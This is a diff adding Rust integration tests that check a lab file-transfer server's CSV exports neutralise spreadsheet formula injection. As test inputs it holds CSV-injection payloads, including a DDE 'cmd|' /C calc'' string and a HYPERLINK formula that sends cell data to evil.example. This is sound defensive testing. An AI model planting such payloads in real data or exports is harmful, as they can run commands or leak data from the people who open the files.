@@ -254,3 +254,145 @@ async fn portal_login_form_signs_in_and_sessions_can_be_revoked() {
     assert_eq!(status, 303);
     assert_eq!(s.get("/api/me", &token).await.0, 401);
 }
+
+/// The store of a running server, for rows no API can make (old transfers, odd names).
+async fn store(s: &Server) -> sqlx::SqlitePool {
+    let options = sqlx::sqlite::SqliteConnectOptions::new()
+        .filename(s.data_dir().join("labbeam.db"))
+        .busy_timeout(std::time::Duration::from_secs(10));
+    sqlx::SqlitePool::connect_with(options).await.unwrap()
+}
+
+/// A finished transfer row with these names (one broadcast recipient when `broadcast` is set).
+async fn insert_transfer(db: &sqlx::SqlitePool, id: &str, names: [&str; 6], broadcast: Option<&str>) {
+    let [sender, receiver, sender_device, file, reason, lab] = names;
+    let files = serde_json::json!([{ "name": file, "size": 5 }]).to_string();
+    sqlx::query(
+        "INSERT INTO transfers (id, sender_username, receiver_username, sender_device, receiver_device, sender_lab, \
+         receiver_lab, files, file_count, total_bytes, status, requested_at, failure_reason, broadcast_id) \
+         VALUES (?, ?, ?, ?, 'pc-2', ?, 'Lab B', ?, 1, 5, 'failed', ?, ?, ?)",
+    )
+    .bind(id)
+    .bind(sender)
+    .bind(receiver)
+    .bind(sender_device)
+    .bind(lab)
+    .bind(files)
+    .bind(harness::now())
+    .bind(reason)
+    .bind(broadcast)
+    .execute(db)
+    .await
+    .unwrap();
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
+const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Every cell of `csv` is safe to open in a spreadsheet, and each of `originals` is there,
+/// exactly, behind one single quote.
+fn assert_neutralised(what: &str, csv: &str, originals: &[String]) {
+    let cells: Vec<String> = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.as_bytes())
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect();
+    for cell in &cells {
+        assert!(!cell.starts_with(FORMULA_LEADS), "{what}: cell {cell:?} would run as a formula:\n{csv}");
+    }
+    for o in originals {
+        assert!(cells.contains(&format!("'{o}")), "{what}: {o:?} is not exported as '{o}:\n{csv}");
+    }
+}
+
+/// GET of an export as the admin; its text.
+async fn export(admin: &Browser<'_>, path: &str) -> String {
+    let (status, text) = admin.get(path).await;
+    assert_eq!(status, 200, "{path}: {text}");
+    text
+}
+
+#[tokio::test]
+async fn users_csv_neutralises_cells_that_start_a_formula() {
+    let s = Server::start().await;
+    let admin = admin(&s).await;
+    let db = store(&s).await;
+    // Display names set through the command line, and two (tab, CR) that only the store
+    // can hold (names are cleaned of control characters on the way in).
+    let mut names = Vec::new();
+    for (i, lead) in FORMULA_LEADS.iter().enumerate() {
+        let name = format!("{lead}SUM(1+1)*cmd|' /C calc'!A{i}");
+        let username = format!("u{i}");
+        if lead.is_control() {
+            s.add_user(&username, "student");
+            sqlx::query("UPDATE users SET display_name = ? WHERE username = ?")
+                .bind(&name)
+                .bind(&username)
+                .execute(&db)
+                .await
+                .unwrap();
+        } else {
+            let display = format!("--display-name={name}");
+            let out =
+                s.cli(&["user", "add", &username, "--role", "student", "--password-stdin", &display], Some(PASSWORD));
+            assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        }
+        names.push(name);
+    }
+    // A username may start with '-' or '@' too.
+    let csrf = admin.csrf().await;
+    for username in ["-dash", "@at"] {
+        let form = [("csrf", csrf.as_str()), ("username", username), ("display_name", "X"), ("role", "student")];
+        assert_eq!(admin.post("/admin/users", &form).await.0, 200, "{username}");
+        names.push(username.to_string());
+    }
+    assert_neutralised("users.csv", &export(&admin, "/admin/users.csv").await, &names);
+}
+
+#[tokio::test]
+async fn audit_csv_neutralises_cells_that_start_a_formula() {
+    let s = Server::start().await;
+    let admin = admin(&s).await;
+    let db = store(&s).await;
+    // Anonymous failed logins put the typed username in the actor column.
+    let mut typed = Vec::new();
+    for lead in ['=', '+', '-', '@'] {
+        let username = format!("{lead}HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")");
+        assert_eq!(s.login_raw(&username, "wrong password").await.status(), 401, "{username}");
+        typed.push(username);
+    }
+    // Leading tab and CR are trimmed at login; rows holding them come from the store.
+    for lead in ['\t', '\r'] {
+        let name = format!("{lead}=1+1");
+        sqlx::query(
+            "INSERT INTO audit_log (at, actor_username, action, target, details, client_addr) \
+             VALUES (?, ?, 'login.failure', ?, '{}', '127.0.0.1')",
+        )
+        .bind(harness::now())
+        .bind(&name)
+        .bind(&name)
+        .execute(&db)
+        .await
+        .unwrap();
+        typed.push(name);
+    }
+    assert_neutralised("audit.csv", &export(&admin, "/admin/audit.csv").await, &typed);
+}
+
+#[tokio::test]
+async fn transfers_csv_neutralises_cells_that_start_a_formula() {
+    let s = Server::start().await;
+    let admin = admin(&s).await;
+    let db = store(&s).await;
+    // Each lead character in every text column that comes from a browser.
+    let mut cells = Vec::new();
+    for (i, lead) in FORMULA_LEADS.iter().enumerate() {
+        let v = |col: &str| format!("{lead}{col}{i}");
+        let names = [v("sender"), v("receiver"), v("device"), v("file"), v("reason"), v("lab")];
+        let refs: [&str; 6] = std::array::from_fn(|k| names[k].as_str());
+        insert_transfer(&db, &format!("t{i}"), refs, None).await;
+        cells.extend(names);
+    }
+    assert_neutralised("transfers.csv", &export(&admin, "/admin/transfers.csv").await, &cells);
+}
